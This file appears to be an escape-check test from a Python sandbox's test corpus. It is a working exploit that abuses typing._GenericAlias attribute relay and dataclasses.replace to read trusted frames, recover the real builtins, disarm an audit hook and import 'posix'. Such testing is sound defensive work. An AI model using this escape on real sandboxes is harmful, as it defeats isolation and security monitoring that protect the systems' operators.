# technique: typing._GenericAlias (any class of the typing module may be subclassed) forwards every non-dunder attribute it lacks to its __origin__ with getattr, in typing's own frame, which the audit hook trusts for frame and code reads; a dataclass subclass D(_GenericAlias, _root=True) with a field named gi_frame (or f_back, f_globals, f_locals: internal names pass the dataclass field-name check) makes dataclasses.replace(D(obj)) run getattr(obj, 'gi_frame') and hand the value to D.__init__; from a running generator's frame, f_back leads to the runner's run() frame: its f_globals hold the real builtins, its f_locals the _Audit instance, whose armed = False turns the hook off
# source: typing._BaseGenericAlias.__getattr__ (attribute relay to __origin__) + dataclasses.replace (getattr by field name) + trusted-module frame checks in audit hooks

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, typing

GA = type(typing.List[int])  # typing._GenericAlias
SINK = []


def relay(obj):
    return (obj,)


@dataclasses.dataclass(init=False, repr=False, eq=False)
class GenFields(GA, _root=True):
    gi_frame: object

    def __init__(self, *a, **kw):
        if kw:
            SINK.append(kw)
        else:
            super().__init__(a[0], (int,), name='x')


@dataclasses.dataclass(init=False, repr=False, eq=False)
class FrameFields(GA, _root=True):
    f_back: object
    f_globals: object
    f_locals: object

    def __init__(self, *a, **kw):
        if kw:
            SINK.append(kw)
        else:
            super().__init__(a[0], (int,), name='x')


def fields_of(cls, obj):
    # replace() reads getattr(D(obj), name) for every field: the alias
    # relays each name to obj from typing's frame; D(**changes) keeps them
    dataclasses.replace(cls(obj))
    return SINK.pop()


def frames():
    fr = fields_of(GenFields, g)['gi_frame']
    out = []
    while fr is not None:
        out.append(fr)
        fr = fields_of(FrameFields, fr)['f_back']
    yield out


g = frames()
stack = next(g)
runner = fields_of(FrameFields, stack[-1])

attempt("replace(GenFields(generator)) -> gi_frame", lambda: stack[0])
attempt("the runner's frame (f_back chain)", lambda: stack[-1])
attempt("runner frame f_globals (real builtins inside)", lambda: runner['f_globals'])
attempt("runner frame f_globals['__builtins__']", lambda: runner['f_globals'][dn('builtins')])
attempt("runner frame f_globals['_os']", lambda: runner['f_globals']['_os'])


def disarm():
    for v in list(runner['f_locals'].values()):
        if type(v).__name__ == '_Audit':
            v.armed = False
    return runner['f_globals'][dn('builtins')]

attempt('audit hook disarmed through f_locals: the real builtins, eval works', disarm)
attempt("... and the real __import__('posix')", lambda: disarm()[dn('import')]('posix'))
